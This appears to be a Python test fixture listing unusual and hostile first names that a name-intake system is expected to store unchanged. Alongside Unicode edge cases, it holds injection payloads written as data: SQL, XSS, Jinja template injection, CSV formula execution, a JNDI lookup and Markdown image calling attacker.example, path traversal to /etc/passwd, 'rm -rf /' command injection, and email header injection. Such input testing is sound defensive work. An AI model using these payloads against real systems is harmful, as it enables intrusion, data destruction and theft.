"""What somebody may be called, and what some program may take it for: all of it is taken in and left as it is."""

from tests.bad_input.made import CANARY, BadInputCase, taken
from tests.intake.examples import child


def first_name(name: str, value: str) -> BadInputCase:
    """Taken in, and kept exactly as it was written."""
    return taken(f"first name: {name}", children=[child(first_name=value, last_name=CANARY)])


NAMES = [
    first_name("an apostrophe", "Aoife O'Brien’s"),
    first_name("a mononym", "Sukarno"),
    first_name("Welsh", "Siân Ŵyn"),
    first_name("Polish", "Łucja Żółć"),
    first_name("Arabic", "محمد عبد الله"),
    first_name("Yoruba", "Ọláyínká Adébáyọ̀"),
    first_name("Vietnamese", "Nguyễn Thị Ánh"),
    first_name("Chinese", "王小明"),
    first_name("beyond the first plane", "𠮷野"),
    first_name("an emoji of several", "👩‍👩‍👧"),
    first_name("decomposed", "e\u0301lodie"),
    first_name("a byte order mark inside", "a\ufeffb"),
    first_name("with what is invisible", "a\u200b\u2060"),
    first_name("blanks around", " Ffion "),
    first_name("right to left", "\u202egnitset\u202c"),
    first_name("isolates never closed", "\u2066\u2067abc"),
    first_name("the noncharacter", "\uffff"),
    first_name("combining without end", "Z" + "\u0301" * 199),
    first_name("as long as may be", "ñ" * 200),
    first_name("Null", "Null"),
    first_name("undefined", "undefined"),
    first_name("True", "True"),
    first_name("SQL", "Robert'); DROP TABLE cases;--"),
    first_name("a placeholder", "$1 %s {0} ${name} ?"),
    first_name("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    first_name("Jinja", "{{ 7*7 }}{% for x in () %}{{ ''.__class__.__mro__ }}"),
    first_name("Markdown", "[a](javascript:alert(1)) ![b](http://attacker.example/p.gif)"),
    first_name("a formula", "=cmd|' /C calc'!A0"),
    first_name("another formula", "@SUM(1+1)*cmd"),
    first_name("a lookup", "${jndi:ldap://attacker.example/a}"),
    first_name("a path", "../../../../etc/passwd"),
    first_name("a command", "; rm -rf / `id` $(id)"),
    first_name("an address", "victim@example.org, attacker@example.org"),
    first_name("an encoded word", "=?utf-8?q?=0D=0ABcc:_a=40b.example?="),
    first_name("an escaped header", "a%0d%0aBcc: a@b.example"),
    first_name("a log line", '", "level": "error", "event": "forged'),
    taken("an outline of many lines", data={"outline": f"{CANARY}\n\t.\nRCPT TO:<a@b.example>\n.\nQUIT\n"}),
    taken("the longest outline", data={"outline": CANARY + "ñ" * (100_000 - len(CANARY))}),
    taken("fifty children", children=[child(first_name=CANARY, address="王" * 500) for _ in range(50)]),
]
